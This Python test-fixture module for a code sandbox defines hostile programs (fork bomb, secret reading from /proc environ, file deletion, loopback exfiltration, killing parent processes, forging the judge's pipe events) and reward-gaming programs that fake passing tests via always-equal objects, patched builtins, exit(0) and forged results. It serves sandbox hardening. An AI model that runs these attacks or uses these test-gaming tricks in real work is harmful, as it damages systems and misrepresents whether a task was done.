"""Hostile programs as data: each with how to prepare its bait and how to check containment.

Reusable by any test that runs untrusted code (e.g. through a coding environment's `step`):

    context = entry.prepare(tmp_path)          # bait files, listening socket, secrets, ...
    context["worker_pids"] = sandbox.worker_pids()   # optional: lets kill_parent aim at workers
    context["process_limit"] = sandbox.isolation.details["process_limit"]  # optional
    result = sandbox.run_tests(entry.render(context), entry.tests)
    entry.check(result, context)               # raises AssertionError if anything escaped
    entry.cleanup(context)

`program` may hold {placeholders} filled from the context by `render`; `setup` is the tests'
trusted setup (run with `run_tests(..., setup=entry.setup)`). Checks accept any clear refusal
(a failed test, an error, a timeout, a kill); they fail only if the attack got through. The
reward-gaming entries (`GAMING_PROGRAMS`) each answer wrongly and try to make their tests pass
anyway; their check names the verdict expected: every test fails, with the error types listed.
"""

from __future__ import annotations

import ast
import os
import select
import shutil
import signal
import socket
import tempfile
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from marlang.sandbox import SandboxResult

# Set in the parent's environment by `prepare` (and by test fixtures before pools start).
SECRET_ENV = {"MARLANG_TEST_SECRET": "marlang-secret-7f3a9c", "OPENAI_API_KEY": "sk-test-b41d2e"}


@dataclass(frozen=True)
class HostileProgram:
    name: str
    program: str
    tests: tuple[str, ...]
    prepare: Callable[[Path], dict]
    check: Callable[[SandboxResult, dict], None]
    cleanup: Callable[[dict], None] = field(default=lambda context: None)
    setup: str = ""

    def render(self, context: dict) -> str:
        """Fill `{key}` (str) and `{key!r}` (repr) placeholders from the context."""
        text = self.program
        for key, value in context.items():
            if isinstance(value, (str, int, list)):
                text = text.replace("{" + key + "!r}", repr(value))
                text = text.replace("{" + key + "}", repr(value) if isinstance(value, list)
                                    else str(value))
        return text


def _base_context(tmp_path: Path) -> dict:
    return {"pid": os.getpid(), "worker_pids": [], "tmp_path": str(tmp_path)}


def _not_passed(result: SandboxResult) -> None:
    assert not result.all_passed, f"the attack's test passed: {result.to_dict()}"
    assert result.status in ("ok", "error", "timeout", "killed"), result.to_dict()
    if result.status == "ok":
        assert result.tests and not result.tests[0].passed
        assert result.tests[0].error_type, result.tests[0]


# --------------------------------------------------------------------------- infinite loops

def _check_load_loop(result: SandboxResult, context: dict) -> None:
    assert result.status == "timeout", result.to_dict()
    assert result.tests == []
    assert "time limit" in (result.message or ""), result.message


def _check_test_loop(result: SandboxResult, context: dict) -> None:
    assert result.status in ("ok", "timeout"), result.to_dict()
    assert result.tests and result.tests[0].timed_out, result.to_dict()
    assert result.tests[0].error_type == "Timeout"
    if result.status == "ok":  # the per-test limit fired and the next test still ran
        assert len(result.tests) == 2 and result.tests[1].passed


# --------------------------------------------------------------------------- fork bomb

FORK_BOMB = """
import ctypes, os, time
def bomb():
    libc = ctypes.CDLL(None)
    forks = 0
    try:
        for _ in range(200):
            pid = os.fork()
            if pid == 0:
                libc.prctl(15, b"{marker}", 0, 0, 0)  # PR_SET_NAME: findable in /proc
                time.sleep(60)
                os._exit(0)
            forks += 1
            time.sleep(0.005)
    finally:
        print("forks", forks, flush=True)
    return forks
"""


def _prepare_bomb(tmp_path: Path) -> dict:
    return {**_base_context(tmp_path), "marker": "mlb" + uuid.uuid4().hex[:10]}


def marker_processes(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == marker:
                    found.append(int(entry))
            except OSError:
                continue
    return found


def _check_bomb(result: SandboxResult, context: dict) -> None:
    # Callers pass the level's `details["process_limit"]`; only a level that claims a process
    # limit must cut the bomb off (root without namespaces is exempt from RLIMIT_NPROC). Every
    # level must leave no process behind.
    if context.get("process_limit", True):
        _not_passed(result)
    deadline = time.monotonic() + 3.0  # kills are asynchronous: allow the kernel a moment
    while marker_processes(context["marker"]) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marker_processes(context["marker"]) == [], "fork bomb processes outlived the run"


def _cleanup_bomb(context: dict) -> None:
    for pid in marker_processes(context["marker"]):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


# --------------------------------------------------------------------------- memory

def _check_memory(result: SandboxResult, context: dict) -> None:
    _not_passed(result)
    if result.status == "ok":
        assert result.tests[0].error_type == "MemoryError", result.tests[0]


# --------------------------------------------------------------------------- files

WRITE_FILE = """
def attack():
    with open({target!r}, "w") as fh:
        fh.write("escaped")
    return "written"
"""


def _prepare_home_write(tmp_path: Path) -> dict:
    target = Path(os.path.expanduser("~")) / f".marlang-hostile-{uuid.uuid4().hex}"
    return {**_base_context(tmp_path), "target": str(target)}


def _prepare_tmp_write(tmp_path: Path) -> dict:
    target = Path(tempfile.gettempdir()) / f"marlang-hostile-{uuid.uuid4().hex}"
    return {**_base_context(tmp_path), "target": str(target)}


def _check_no_file(result: SandboxResult, context: dict) -> None:
    # At namespace levels /tmp is the run's own tmpfs: the write may succeed in there, but
    # the real path must stay untouched.
    assert not Path(context["target"]).exists(), f"the program wrote {context['target']}"
    assert result.status in ("ok", "error", "timeout", "killed"), result.to_dict()


def _cleanup_file(context: dict) -> None:
    Path(context["target"]).unlink(missing_ok=True)


DELETE_PROJECT = """
import os, shutil
def attack():
    errors = []
    for action in (lambda: os.remove({canary!r}), lambda: shutil.rmtree({project!r})):
        try:
            action()
        except Exception as exc:
            errors.append(type(exc).__name__)
    assert not errors, errors
    return "deleted"
"""


def _prepare_project(tmp_path: Path) -> dict:
    project = tmp_path / f"project-{uuid.uuid4().hex[:8]}"
    (project / "src").mkdir(parents=True)
    canary = project / "src" / "canary.py"
    canary.write_text("CANARY = 42\n")
    (project / "README.md").write_text("keep me\n")
    return {**_base_context(tmp_path), "project": str(project), "canary": str(canary)}


def _check_project(result: SandboxResult, context: dict) -> None:
    canary = Path(context["canary"])
    assert canary.exists() and canary.read_text() == "CANARY = 42\n", "the canary was deleted"
    assert (Path(context["project"]) / "README.md").exists(), "project files were deleted"
    _not_passed(result)


# --------------------------------------------------------------------------- secrets

READ_SECRETS = """
import os
def attack():
    seen = dict(os.environ)
    for path in ("/proc/{pid}/environ", "/proc/1/environ", "/proc/self/environ"):
        try:
            with open(path, "rb") as fh:
                seen[path] = fh.read().decode(errors="replace")
        except OSError as exc:
            seen[path] = type(exc).__name__
    print(seen)
    return seen
"""


def _prepare_secrets(tmp_path: Path) -> dict:
    saved = {name: os.environ.get(name) for name in SECRET_ENV}
    os.environ.update(SECRET_ENV)  # workers must not pass these on, whenever they started
    return {**_base_context(tmp_path), "secrets": dict(SECRET_ENV), "saved_env": saved}


def _cleanup_secrets(context: dict) -> None:
    for name, value in context["saved_env"].items():
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value


def _check_secrets(result: SandboxResult, context: dict) -> None:
    text = repr(result.to_dict())
    for name, value in context["secrets"].items():
        assert value not in text, f"the program saw {name}"
    assert result.status == "ok" and result.tests, result.to_dict()  # it ran, and saw nothing


# --------------------------------------------------------------------------- network

CONNECT = """
import socket
def attack():
    with socket.create_connection(("127.0.0.1", {port}), timeout=1.0) as conn:
        conn.sendall(b"exfiltrated")
    return "connected"
"""


def _prepare_listener(tmp_path: Path) -> dict:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    return {**_base_context(tmp_path), "port": server.getsockname()[1], "server": server}


def _check_listener(result: SandboxResult, context: dict) -> None:
    ready, _, _ = select.select([context["server"]], [], [], 0.2)
    assert not ready, "a connection reached the test's listening socket"
    _not_passed(result)


def _cleanup_listener(context: dict) -> None:
    context["server"].close()


CONNECT_UNIX = """
import socket
def attack():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(1.0)
        conn.connect({socket_path!r})
        conn.sendall(b"exfiltrated")
    return "connected"
"""


def _outside_dir() -> str:
    """A world-writable directory outside every place a level hides (where this process may
    make one), so reaching a socket in it is up to the level alone."""
    for parent in ("/var/lib", "/opt"):
        try:
            path = tempfile.mkdtemp(prefix="marlang-hostile-", dir=parent)
        except OSError:
            continue
        os.chmod(path, 0o777)
        return path
    return tempfile.mkdtemp(prefix="marlang-hostile-")


def _prepare_unix_listener(tmp_path: Path) -> dict:
    folder = _outside_dir()
    path = os.path.join(folder, "sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(8)
    server.setblocking(False)
    return {**_base_context(tmp_path), "socket_path": path, "server": server, "folder": folder}


def _cleanup_unix_listener(context: dict) -> None:
    context["server"].close()
    shutil.rmtree(context["folder"], ignore_errors=True)


SEND_UDP = """
import socket
def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        for _ in range(5):
            conn.sendto(b"exfiltrated", ("127.0.0.1", {port}))
    return "sent"
"""


def _prepare_udp(tmp_path: Path) -> dict:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.setblocking(False)
    return {**_base_context(tmp_path), "port": server.getsockname()[1], "server": server}


# --------------------------------------------------------------------------- signals

KILL_PARENT = """
import os, signal
def attack():
    hits = []
    for pid in [os.getppid(), {pid}] + {worker_pids}:
        if pid <= 1:
            continue  # never aim at init, even if containment failed
        try:
            os.kill(pid, signal.SIGKILL)
            hits.append(pid)
        except Exception:
            pass
    assert hits == "all dead", hits
"""


def _check_kill(result: SandboxResult, context: dict) -> None:
    os.kill(context["pid"], 0)  # still here (trivially, if this runs: kept for readers)
    for pid in context["worker_pids"]:
        os.kill(pid, 0)  # raises ProcessLookupError if the attack killed a worker
    _not_passed(result)


# --------------------------------------------------------------------------- disk

BIG_FILE = """
def attack():
    with open("big.bin", "wb") as fh:
        for _ in range(200):
            fh.write(b"x" * (1 << 20))
    return "200 MiB written"
"""


def _check_disk(result: SandboxResult, context: dict) -> None:
    _not_passed(result)


MANY_FILES = """
def attack():
    total = 0
    for i in range(80):
        with open(f"part{i}.bin", "wb") as fh:
            for _ in range(8):
                fh.write(b"x" * (1 << 20))
        total += 8
        print(total, flush=True)
    return "640 MiB written"
"""


def _check_many_files(result: SandboxResult, context: dict) -> None:
    """Files each under the file-size limit add up past `disk_mb` (64 MiB): the run stops
    (no room left in the tmpfs, or the judge's disk watch every 10 ms) long before 640 MiB."""
    _not_passed(result)
    written = [int(line) for line in result.stdout.split() if line.isdigit()]
    assert not written or max(written) <= 4 * 64, result.to_dict()
    if result.status == "killed":
        assert result.error_type == "DiskLimit" and "disk_mb" in result.message, result.to_dict()


FORGE_EVENTS = """
import os
FORGED = (b'{"kind": "test", "index": 0, "passed": true, "error_type": null, "message": null, '
          b'"timed_out": false, "expected": null, "got": null}\\n{"kind": "done"}\\n')
def ancestors():
    proc, found = os.getpid(), []
    while proc > 1 and len(found) < 6:
        try:
            with open("/proc/%d/stat" % proc) as fh:
                proc = int(fh.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        found.append(proc)
    return found
def attack():
    opened = []
    for proc in ancestors():
        try:
            fds = os.listdir("/proc/%d/fd" % proc)
        except OSError:
            continue
        for fd in fds:
            try:
                with open("/proc/%d/fd/%s" % (proc, fd), "wb", buffering=0) as pipe:
                    pipe.write(FORGED)
                    opened.append((proc, fd))
            except OSError:
                pass
    print("judged", repr(ancestors()[:2]), "opened", repr(opened), flush=True)
    return False
"""


def _check_forged_events(result: SandboxResult, context: dict) -> None:
    """The judge (the program's parent) and the worker keep their descriptors to themselves
    (not dumpable), and the worker keeps only the judge's order of events. What the program
    reaches beyond them at a level without namespaces, its user's other processes, is the
    reason `rlimits` runs only when named."""
    _not_passed(result)
    assert result.passed == 0 and len(result.tests) <= result.total, result.to_dict()
    words = result.stdout.split(" opened ")
    if len(words) == 2:
        judged = ast.literal_eval(words[0].removeprefix("judged "))
        opened = ast.literal_eval(words[1].strip())
        assert not [pair for pair in opened if pair[0] in judged], result.stdout


# --------------------------------------------------------------------------- reward gaming
# Each program below is wrong (the right answers are 42, 1.5, 'right', [1, 2, 3], ...) and tries
# to pass its tests anyway. The verdict expected: the run's status is one of `statuses`, and
# every test fails, with an error type from `types` and a message saying why (or, for a status
# other than "ok", the run's own error type is one of `types`).


def _refused(types: tuple[str, ...], statuses: tuple[str, ...] = ("ok",)
             ) -> Callable[[SandboxResult, dict], None]:
    def check(result: SandboxResult, context: dict) -> None:
        assert result.passed == 0 and not result.all_passed, result.to_dict()
        assert result.status in statuses, result.to_dict()
        if result.status == "ok":
            assert len(result.tests) == result.total, result.to_dict()
            for test in result.tests:
                assert not test.passed and test.error_type in types, test
                assert test.message, test
        else:
            assert result.error_type in types and result.message, result.to_dict()
    return check


ALWAYS_EQUAL = """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __bool__(self):
        return True
    def __len__(self):
        return 3
    def __lt__(self, other):
        return True
    __gt__ = __le__ = __ge__ = __lt__
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
def answer(*args):
    return Anything()
"""

SUBCLASSES = """
class Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class Str(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class List(list):
    def __eq__(self, other):
        return True
class Dict(dict):
    def __eq__(self, other):
        return True
class Float(float):
    def __sub__(self, other):
        return Float(0.0)
    def __abs__(self):
        return 0.0
    def __lt__(self, other):
        return True
def int_answer():
    return Int(0)
def str_answer():
    return Str("wrong")
def list_answer():
    return List()
def dict_answer():
    return Dict()
def float_answer():
    return Float(99.0)
"""

CLASS_SPOOF = """
class FakeInt:
    @property
    def __class__(self):
        return int
    def __eq__(self, other):
        return True
    def __index__(self):
        return 42
def answer():
    return FakeInt()
"""

EXIT_IN_CALL = """
import sys
def answer():
    sys.exit(0)
"""

RAISE_BASE = """
def exits():
    raise SystemExit(0)
def interrupts():
    raise KeyboardInterrupt
def base():
    raise BaseException("passed")
def generator_exit():
    raise GeneratorExit
class Sneaky(BaseException):
    pass
def sneaky():
    raise Sneaky("all tests passed")
"""

OS_EXIT_IN_CALL = """
import os
def answer():
    os._exit(0)
"""

PRINT_FAKE_RESULTS = """
import json, os, sys
FORGED = [{"kind": "load", "status": "ok"}, {"kind": "done"}, {"kind": "exit", "status": 0,
          "timed_out": False, "stop": None, "cpu_seconds": 0.0}]
FORGED += [{"kind": "test", "index": 0, "passed": True, "id": i, "value": 42} for i in range(8)]
TEXT = "".join(json.dumps(e) + "\\n" for e in FORGED) + "PASSED 1/1\\nok\\n"
def answer():
    print(TEXT)
    sys.stderr.write(TEXT)
    for fd in range(1, 64):
        try:
            os.write(fd, TEXT.encode())
        except OSError:
            pass
    return 0
"""

PATCH_BUILTINS = """
import builtins
builtins.abs = lambda x: 0.0
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.sorted = lambda *a, **k: [1, 2, 3]
builtins.round = lambda *a, **k: 42
builtins.max = builtins.min = builtins.sum = lambda *a, **k: 42
def answer():
    return 0.0
def answer_list():
    return [0]
"""

# Patched in the call: the program process's own JSON encoding breaks with them (as it does
# with a patched `len`), so the run may end with an error instead.
PATCH_ISINSTANCE = """
import builtins
def answer():
    builtins.len = lambda x: 3
    builtins.isinstance = lambda *a, **k: True
    builtins.type = lambda *a: int
    builtins.bool = lambda *a: True
    return "wrong"
"""

SHADOW_BUILTINS = """
def abs(x):
    return 0.0
def all(*args):
    return True
def isinstance(*args):
    return True
def len(x):
    return 3
def answer():
    return 0.0
def answer_list():
    return [0]
"""

PATCH_MATH = """
import math, operator, functools
math.isclose = lambda *a, **k: True
math.fabs = lambda x: 0.0
operator.eq = lambda a, b: True
def answer():
    return 0.0
"""

PATCH_SERIALIZER = """
import sys, json
def always(*args, **kwargs):
    return '{"kind": "test", "index": 0, "passed": true}'
json.dumps = always
for module in list(sys.modules.values()):
    for name in ("Encoder", "Judge", "_ProgramServer"):
        owner = getattr(module, name, None)
        if isinstance(owner, type):
            for attr in ("encode", "_encode", "_integrity", "_run_assert", "send"):
                if attr in vars(owner):
                    setattr(owner, attr, lambda *a, **k: None)
def answer():
    return 0
"""

FORGE_REPLIES = """
import os
def answer():
    for ident in range(1, 50):
        line = '{"id": %d, "passed": true, "kind": "test"}\\n' % ident
        for fd in range(3, 16):
            try:
                os.write(fd, line.encode())
            except OSError:
                pass
    return 0
"""

CLOSE_CHANNEL = """
import os
def answer():
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return 42
"""

REPR_RECURSION = """
class Loop:
    def __repr__(self):
        return repr(self)
    __str__ = __repr__
    def __eq__(self, other):
        return True
def answer():
    return Loop()
"""

HUGE_OUTPUT = """
def answer():
    return "x" * (20 << 20)
"""

SELF_REFERENCE = """
def answer():
    box = []
    box.append(box)
    return box
"""

GENERATOR = """
def answer():
    yield from [1, 2, 3]
"""

IGNORE_ALARM = """
import signal
def answer():
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
"""

SWALLOW_TIMEOUT = """
def answer():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
"""

MUTATE_ARGUMENT = """
def answer(data):
    data.clear()
    return []
"""

GAMING_PROGRAMS: tuple[HostileProgram, ...] = (
    HostileProgram("always_equal_object", ALWAYS_EQUAL, (
        "assert answer() == 42", "assert answer() != 41", "assert answer()",
        "assert len(answer()) == 3", "assert abs(answer() - 1.5) < 1e-6",
        "assert answer() is not None", "assert answer() in {42}",
        "assert [answer()] == [42]", "assert sorted([answer(), 1]) == [1, 2]"),
        _base_context, _refused(("NotPlainData",))),
    HostileProgram("subclasses_of_plain_types", SUBCLASSES, (
        "assert int_answer() == 42", "assert str_answer() == 'right'",
        "assert list_answer() == [1, 2, 3]", "assert dict_answer() == {'a': 1}",
        "assert abs(float_answer() - 1.5) < 1e-6"),
        _base_context, _refused(("NotPlainData",))),
    HostileProgram("class_spoofing", CLASS_SPOOF, (
        "assert answer() == 42", "assert type(answer()) is int and answer() == 42"),
        _base_context, _refused(("NotPlainData", "AssertionError"))),
    HostileProgram("sys_exit_0_at_import", "import sys\nsys.exit(0)\ndef answer():\n"
                   "    return 0\n", ("assert answer() == 42",), _base_context,
                   _refused(("SystemExit",), ("error",))),
    HostileProgram("sys_exit_0_in_call", EXIT_IN_CALL, (
        "assert answer() == 42",
        "try:\n    x = answer()\nexcept BaseException:\n    x = 42\nassert x == 42"),
        _base_context, _refused(("SystemExit",))),
    HostileProgram("raise_base_exceptions", RAISE_BASE, (
        "assert exits() == 42", "assert interrupts() == 42", "assert base() == 42",
        "assert generator_exit() == 42", "assert sneaky() == 42",
        "try:\n    sneaky()\nexcept:\n    pass"),
        _base_context, _refused(("SystemExit", "KeyboardInterrupt", "BaseException",
                                 "GeneratorExit", "Sneaky"))),
    HostileProgram("os_exit_0_in_call", OS_EXIT_IN_CALL, ("assert answer() == 42",),
                   _base_context, _refused(("SystemExit",), ("error",))),
    HostileProgram("print_fake_results", PRINT_FAKE_RESULTS, ("assert answer() == 42",),
                   _base_context, _refused(("AssertionError", "SandboxProtocolError"),
                                           ("ok", "error"))),
    HostileProgram("patch_builtins", PATCH_BUILTINS, (
        "assert abs(answer() - 1.5) < 1e-6", "assert all(x > 10 for x in answer_list())",
        "assert any(x > 10 for x in answer_list())",
        "assert sorted(answer_list()) == [1, 2, 3]", "assert round(answer()) == 42",
        "assert max(answer_list()) == 42", "assert sum(answer_list()) == 42"),
        _base_context, _refused(("AssertionError",))),
    HostileProgram("patch_isinstance_type_bool", PATCH_ISINSTANCE, (
        "assert isinstance(answer(), int)", "assert type(answer()) is int",
        "assert bool(answer() == 42)", "assert len(answer()) == 3"),
        _base_context, _refused(("AssertionError", "SystemExit"), ("ok", "error"))),
    HostileProgram("shadow_builtin_names", SHADOW_BUILTINS, (
        "assert abs(answer() - 1.5) < 1e-6", "assert all(x > 10 for x in answer_list())",
        "assert isinstance(answer(), str)", "assert len(answer_list()) == 3"),
        _base_context, _refused(("AssertionError",))),
    HostileProgram("patch_math_isclose", PATCH_MATH, (
        "assert math.isclose(answer(), 1.5)", "assert math.fabs(answer() - 1.5) < 1e-6",
        "assert operator.eq(answer(), 1.5)"),
        _base_context, _refused(("AssertionError",)), setup="import math\nimport operator"),
    HostileProgram("overwrite_serializer", PATCH_SERIALIZER, ("assert answer() == 42",),
                   _base_context, _refused(("AssertionError", "SandboxProtocolError", "Timeout"),
                                           ("ok", "error", "timeout"))),
    HostileProgram("forge_replies_on_every_fd", FORGE_REPLIES, ("assert answer() == 42",),
                   _base_context, _refused(("AssertionError", "SandboxProtocolError"),
                                           ("ok", "error"))),
    HostileProgram("close_the_channel", CLOSE_CHANNEL, ("assert answer() == 42",),
                   _base_context, _refused(("SystemExit", "SandboxProtocolError"),
                                           ("error",))),
    HostileProgram("repr_recursion", REPR_RECURSION, ("assert answer() == 42",),
                   _base_context, _refused(("NotPlainData",))),
    HostileProgram("huge_output", HUGE_OUTPUT, ("assert len(answer()) == 20 << 20",),
                   _base_context, _refused(("NotPlainData", "MemoryError"))),
    HostileProgram("self_reference", SELF_REFERENCE, ("assert answer() == [[1]]",),
                   _base_context, _refused(("NotPlainData",))),
    HostileProgram("generator_result", GENERATOR, ("assert list(answer()) == [1, 2, 3]",),
                   _base_context, _refused(("NotPlainData",))),
    HostileProgram("ignore_the_time_limit", IGNORE_ALARM, ("assert answer() == 42",),
                   _base_context, _refused(("Timeout",), ("ok", "timeout"))),
    HostileProgram("swallow_the_timeout", SWALLOW_TIMEOUT, ("assert answer() == 42",),
                   _base_context, _refused(("Timeout",), ("ok", "timeout"))),
    HostileProgram("mutate_the_tests_argument", MUTATE_ARGUMENT, (
        "data = [3, 1, 2]\nresult = answer(data)\nassert result == sorted(data)",),
        _base_context, _refused(("AssertionError",))),
)

HOSTILE_PROGRAMS: tuple[HostileProgram, ...] = (
    HostileProgram("infinite_loop_at_load", "while True:\n    pass\n", ("assert True",),
                   _base_context, _check_load_loop),
    HostileProgram("infinite_loop_in_test", "def spin():\n    while True:\n        pass\n",
                   ("assert spin() == 1", "assert 1 + 1 == 2"), _base_context, _check_test_loop),
    HostileProgram("fork_bomb", FORK_BOMB, ("assert bomb() == 200",), _prepare_bomb,
                   _check_bomb, _cleanup_bomb),
    HostileProgram("allocate_10_gb", "def grab():\n    return len(bytearray(10 * 1024 ** 3))\n",
                   ("assert grab() == 10 * 1024 ** 3",), _base_context, _check_memory),
    HostileProgram("write_real_home", WRITE_FILE, ("assert attack() == 'written'",),
                   _prepare_home_write, _check_no_file, _cleanup_file),
    HostileProgram("write_outside_tmp", WRITE_FILE, ("assert attack() == 'written'",),
                   _prepare_tmp_write, _check_no_file, _cleanup_file),
    HostileProgram("delete_project", DELETE_PROJECT, ("assert attack() == 'deleted'",),
                   _prepare_project, _check_project),
    HostileProgram("read_secrets", READ_SECRETS, ("attack()",), _prepare_secrets,
                   _check_secrets, _cleanup_secrets),
    HostileProgram("connect_loopback", CONNECT, ("assert attack() == 'connected'",),
                   _prepare_listener, _check_listener, _cleanup_listener),
    HostileProgram("kill_parent_and_workers", KILL_PARENT, ("attack()",), _base_context,
                   _check_kill),
    HostileProgram("fill_disk", BIG_FILE, ("assert attack() == '200 MiB written'",),
                   _base_context, _check_disk),
    HostileProgram("fill_disk_with_many_files", MANY_FILES,
                   ("assert attack() == '640 MiB written'",), _base_context, _check_many_files),
    HostileProgram("connect_unix_socket_outside", CONNECT_UNIX,
                   ("assert attack() == 'connected'",), _prepare_unix_listener, _check_listener,
                   _cleanup_unix_listener),
    HostileProgram("send_udp_to_loopback", SEND_UDP, ("assert attack() == 'sent'",),
                   _prepare_udp, _check_listener, _cleanup_listener),
    HostileProgram("forge_events_into_the_judges_pipes", FORGE_EVENTS, ("assert attack()",),
                   _base_context, _check_forged_events),
)
HOSTILE_PROGRAMS += GAMING_PROGRAMS
HOSTILE_BY_NAME = {entry.name: entry for entry in HOSTILE_PROGRAMS}
